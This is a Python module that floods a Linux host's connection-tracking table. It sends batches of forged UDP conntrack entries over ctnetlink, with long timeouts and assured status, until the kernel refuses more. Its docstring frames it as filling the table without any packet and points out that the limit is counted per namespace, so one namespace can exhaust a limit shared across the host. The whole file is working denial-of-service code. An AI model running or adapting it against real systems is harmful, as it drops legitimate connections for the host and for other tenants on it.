"""Conntrack entries made over ctnetlink, many in one message: how a table becomes full without a packet.

nf_conntrack_max counts each namespace's entries by themselves but can be set in the first one only, so a full table
takes as many entries as the host allows.
"""
import socket
import struct

from agent_netlink import NETLINK_NETFILTER, NLM_ACK, NLM_REQUEST, attribute

CT_NEW, NLM_CREATE = 0x100, 0x400
NESTED = 0x8000
SEEN_REPLY, ASSURED, CONFIRMED = 2, 4, 8
BATCH = 128


def tuple_of(kind, ends, ports):
    addresses = attribute(1, ends[0]) + attribute(2, ends[1])
    protocol = attribute(1, b"\x11") + attribute(2, struct.pack("!H", ports[0])) + attribute(3, struct.pack("!H", ports[1]))
    return attribute(kind | NESTED, attribute(1 | NESTED, addresses) + attribute(2 | NESTED, protocol))


def entry(number, assured):
    """A UDP connection like no other: its number stands in the source's address and port."""
    ends = (struct.pack("!BBH", 11, number >> 24 & 255, number >> 8 & 0xFFFF), bytes([11, 255, 0, 1]))
    ports = (1024 + (number & 255), 53)
    status = CONFIRMED | ((SEEN_REPLY | ASSURED) if assured else 0)
    body = tuple_of(1, ends, ports) + tuple_of(2, ends[::-1], ports[::-1])
    return body + attribute(3, struct.pack("!I", status)) + attribute(7, struct.pack("!I", 3600))


def fill(count, assured, first=0):
    """Makes entries until there are `count` more or the kernel makes no more; how many it made."""
    channel = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_NETFILTER)
    channel.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    channel.bind((0, 0))
    made = 0
    for start in range(first, first + count, BATCH):
        numbers = range(start, min(start + BATCH, first + count))
        messages = b""
        for number in numbers:
            content = struct.pack("!BBH", socket.AF_INET, 0, 0) + entry(number, assured)
            messages += struct.pack("=IHHII", 16 + len(content), CT_NEW, NLM_REQUEST | NLM_ACK | NLM_CREATE, number, 0) + content
        channel.send(messages)
        waiting = len(numbers)
        refused = False
        while waiting:
            data, at = channel.recv(1 << 17), 0
            while at + 20 <= len(data):
                length, _, _, _, _, code = struct.unpack_from("=IHHIIi", data, at)
                waiting, made, refused = waiting - 1, made + (code == 0), refused or code != 0
                at += (length + 3) & ~3
        if refused:
            break
    channel.close()
    return made
